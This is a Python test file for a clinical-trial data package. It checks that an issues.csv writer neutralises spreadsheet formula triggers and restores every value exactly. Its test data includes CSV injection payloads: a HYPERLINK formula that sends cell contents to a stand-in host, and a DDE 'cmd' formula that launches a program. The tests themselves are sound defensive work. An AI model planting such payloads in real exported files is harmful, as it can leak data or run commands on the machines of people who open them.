"""issues.csv is safe in a spreadsheet and exact for a program (docs/input-checks.md "issues.csv";
OWASP "CSV Injection": cells starting with = + - @ tab or carriage return are formulas to a
spreadsheet; OWASP ASVS 5.0 requirement 1.2.10 adds NUL)."""

from __future__ import annotations

import csv

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mmtrial.sdtm.issues import (
    InputIssue,
    is_issues_csv,
    neutralise_cell,
    read_issues_csv,
    restore_cell,
    write_issues_csv,
)

ATTACKS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+2", "-5",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\x00=1", "'quoted", "''two"]


def test_every_formula_trigger_is_neutralised_and_restored():
    for v in ATTACKS:
        n = neutralise_cell(v)
        assert n.startswith("'") and restore_cell(n) == v
    for v in ["x", "5", "NE", "", "a=b", " =1"]:
        assert neutralise_cell(v) == v and restore_cell(v) == v


def test_no_cell_of_the_file_starts_with_a_trigger(tmp_path):
    issues = [InputIssue(domain="lb", variable="LBSTRESN", problem="not a number", value=v,
                         usubjid=v, row=i + 1, hint=v, rule="TYPE") for i, v in enumerate(ATTACKS)]
    path = write_issues_csv(issues, tmp_path / "issues.csv")
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\x00")]
    back = read_issues_csv(path)
    assert list(back["value"]) == ATTACKS and list(back["usubjid"]) == ATTACKS
    assert list(back["row"]) == list(range(1, len(ATTACKS) + 1))
    assert is_issues_csv(path)


def test_empty_strings_and_missing_values_both_read_back_missing(tmp_path):
    path = write_issues_csv([InputIssue("dm", "AGE", "empty", value="", row=None),
                             InputIssue("dm", "AGE", "none", value=None, row=3)], tmp_path / "i.csv")
    back = read_issues_csv(path)
    assert list(back["value"]) == [None, None] and back["row"].isna().tolist() == [True, False]


text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=st.lists(text, min_size=1, max_size=25))
def test_any_string_round_trips_through_the_file(tmp_path, values):
    issues = [InputIssue(domain=v, variable=v, problem=v, usubjid=v, value=v, hint=v, rule=v, row=k)
              for k, v in enumerate(values)]
    back = read_issues_csv(write_issues_csv(issues, tmp_path / "issues.csv"))
    expect = [v if v != "" else None for v in values]
    for col in ("domain", "variable", "problem", "usubjid", "value", "hint", "rule"):
        assert list(back[col]) == expect, col
    assert list(back["row"]) == list(range(len(values)))


@settings(max_examples=200, deadline=None)
@given(v=text)
def test_neutralised_cells_never_start_a_formula_and_always_restore(v):
    n = neutralise_cell(v)
    assert restore_cell(n) == v
    assert n[:1] not in ("=", "+", "-", "@", "\t", "\r", "\x00")
